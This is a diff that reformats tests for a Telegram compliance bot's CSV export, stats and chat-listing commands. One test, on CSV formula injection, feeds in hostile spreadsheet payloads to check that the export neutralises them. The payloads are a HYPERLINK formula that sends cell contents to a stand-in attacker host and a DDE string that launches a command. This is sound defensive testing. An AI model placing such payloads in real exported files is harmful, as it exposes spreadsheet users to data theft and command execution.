@@ -63,7 +63,7 @@ def cli_csv(storage) -> str:
 
 
 async def test_export_sends_the_same_csv_as_the_cli(harness, tmp_path, monkeypatch):
-    await harness.send(U.channel_post(1, "Presale live, with \"quotes\", and, commas"))
+    await harness.send(U.channel_post(1, 'Presale live, with "quotes", and, commas'))
     await harness.send(U.group_message(2, "VIP signals, 收U 预售"))
     await harness.send(U.channel_post(3, "nice weather"))  # benign: no flag
     second = harness.storage.all_flags()[1]
@@ -80,15 +80,22 @@ async def test_export_sends_the_same_csv_as_the_cli(harness, tmp_path, monkeypat
     filename, content = next(iter(doc.files.values()))
     assert filename.endswith(".csv") and content.decode() == cli_csv(harness.storage)
     assert threads and threads[0] is not threading.main_thread()  # read off the event loop
-    result = CliRunner().invoke(cli, ["export", "--db", str(tmp_path / "bot.db"), "-o", str(tmp_path / "cli.csv")],
-                                env={"TELEGRAM_BOT_TOKEN": TEST_TOKEN})
+    result = CliRunner().invoke(
+        cli,
+        ["export", "--db", str(tmp_path / "bot.db"), "-o", str(tmp_path / "cli.csv")],
+        env={"TELEGRAM_BOT_TOKEN": TEST_TOKEN},
+    )
     assert result.exit_code == 0, result.output
     assert (tmp_path / "cli.csv").read_bytes() == content
     reader = csv.DictReader(io.StringIO(content.decode()))
     rows = list(reader)
     assert reader.fieldnames == EXPORT_COLUMNS and len(rows) == 2
     assert rows[0]["link"] == "https://t.me/cryptogems/1" and rows[0]["text"].endswith("and, commas")
-    assert (rows[1]["status"], rows[1]["reviewed_by"], rows[1]["reasons"]) == ("false_positive", "Mia Mod (111)", "vip signals; vip")
+    assert (rows[1]["status"], rows[1]["reviewed_by"], rows[1]["reasons"]) == (
+        "false_positive",
+        "Mia Mod (111)",
+        "vip signals; vip",
+    )
 
 
 async def test_export_from_an_in_memory_database(bot_factory):
@@ -127,6 +134,7 @@ async def test_model_and_reload(bot_factory):
 async def test_failed_reload_keeps_the_running_model(bot_factory):
     def broken():
         raise RuntimeError("model file is corrupt")
+
     harness = await bot_factory(loader=broken)
     await harness.send(U.command("/reload", MODS))
     assert "Reload failed, still using fake-1: model file is corrupt" == last_reply(harness)
@@ -155,8 +163,13 @@ async def test_moderator_commands_only_in_the_moderators_chat_or_in_private(harn
 
 async def test_chats_fits_many_chats_into_messages_within_telegram_limits(harness):
     for i in range(130):
-        harness.storage.upsert_chat(-1003000000000 - i, "supergroup", f"Chat {i:03d} " + "долгое название " * 5,
-                                    f"chat_{i:03d}_" + "x" * 20, "watched")
+        harness.storage.upsert_chat(
+            -1003000000000 - i,
+            "supergroup",
+            f"Chat {i:03d} " + "долгое название " * 5,
+            f"chat_{i:03d}_" + "x" * 20,
+            "watched",
+        )
     await harness.send(U.command("/chats", MODS))
     replies = harness.api.calls_to("sendMessage", ok_only=False)
     assert len(replies) > 1 and all(c.status == 200 for c in replies)
@@ -166,11 +179,15 @@ async def test_chats_fits_many_chats_into_messages_within_telegram_limits(harnes
 
 
 async def test_chat_titles_in_chats_and_recent_cannot_become_links(harness):
-    await harness.send(U.channel_post(1, "Presale live", chat={"id": -1004444444444, "type": "channel", "title": LINK_BAIT}))
+    await harness.send(
+        U.channel_post(1, "Presale live", chat={"id": -1004444444444, "type": "channel", "title": LINK_BAIT})
+    )
     for command in ("/chats", "/recent"):
         await harness.send(U.command(command, MODS))
         assert f"<code>{LINK_BAIT}</code>" in last_reply(harness)
-        assert "t.me/scam" not in outside_code(last_reply(harness)) and "@scam_bot" not in outside_code(last_reply(harness))
+        assert "t.me/scam" not in outside_code(last_reply(harness)) and "@scam_bot" not in outside_code(
+            last_reply(harness)
+        )
 
 
 async def test_stats_renders_the_figures_the_digest_and_the_cli_show(harness, monkeypatch):
@@ -178,13 +195,16 @@ async def test_stats_renders_the_figures_the_digest_and_the_cli_show(harness, mo
 
     periods = fixed_figures(monkeypatch)
     await harness.send(U.command("/stats 30", MODS))
-    assert last_reply(harness) == ("<b>Last 30 days</b>\nPosts scanned: 41\nFlags by label: ico 4, trading_service 3\n"
-                                   "Flags by status: confirmed 2, pending 5")
+    assert last_reply(harness) == (
+        "<b>Last 30 days</b>\nPosts scanned: 41\nFlags by label: ico 4, trading_service 3\n"
+        "Flags by status: confirmed 2, pending 5"
+    )
     [(start, end)] = periods
     assert end - start == 30 * 86400
 
 
 # -- finding 1: one row /export cannot render stops nothing --------------------------------------------------
+
 
 async def test_export_sends_every_row_when_a_stored_date_or_score_cannot_be_rendered(bot_factory, tmp_path):
     from tests.test_flag_export import UNRENDERABLE_DATES, unrenderable_db
@@ -203,10 +223,12 @@ async def test_export_sends_every_row_when_a_stored_date_or_score_cannot_be_rend
 
 # -- finding 5: CSV formula injection through /export --------------------------------------------------------
 
+
 async def test_export_neutralises_cells_that_begin_like_a_formula(harness, tmp_path):
     title = '=HYPERLINK("http://evil.example/?"&A1,"Gems")'
-    await harness.send(U.channel_post(1, "+cmd|' /C calc'!A0 presale", chat={"id": -1004444444444, "type": "channel",
-                                                                           "title": title}))
+    await harness.send(
+        U.channel_post(1, "+cmd|' /C calc'!A0 presale", chat={"id": -1004444444444, "type": "channel", "title": title})
+    )
     await harness.send(U.channel_post(2, "-2+3 airdrop\t@SUM(1)"))
     [first, second] = harness.storage.all_flags()
     harness.storage.record_review(first["alert_id"], "confirm", None, 111, "@evil")
@@ -215,15 +237,22 @@ async def test_export_neutralises_cells_that_begin_like_a_formula(harness, tmp_p
     content = next(iter(doc.files.values()))[1].decode()
     rows = list(csv.DictReader(io.StringIO(content)))
     assert (rows[0]["chat_title"], rows[0]["text"], rows[0]["reviewed_by"]) == (
-        f"'{title}", "'+cmd|' /C calc'!A0 presale", "'@evil (111)")
-    assert (rows[1]["text"], rows[1]["chat_title"], rows[1]["chat_id"]) == ("'-2+3 airdrop\t@SUM(1)", "Crypto Gems",
-                                                                            "-1001234567890")
+        f"'{title}",
+        "'+cmd|' /C calc'!A0 presale",
+        "'@evil (111)",
+    )
+    assert (rows[1]["text"], rows[1]["chat_title"], rows[1]["chat_id"]) == (
+        "'-2+3 airdrop\t@SUM(1)",
+        "Crypto Gems",
+        "-1001234567890",
+    )
     assert content == cli_csv(harness.storage)  # the same file as `compliance-bot export`
     # What is stored stays verbatim.
     assert harness.storage.all_flags()[0]["chat_title"] == title
 
 
 # -- finding 6: /stats takes the same bound as `compliance-bot stats` -----------------------------------------
+
 
 async def test_stats_refuses_a_period_out_of_range_with_a_clear_message(harness):
     from bot.commands import MAX_STATS_DAYS
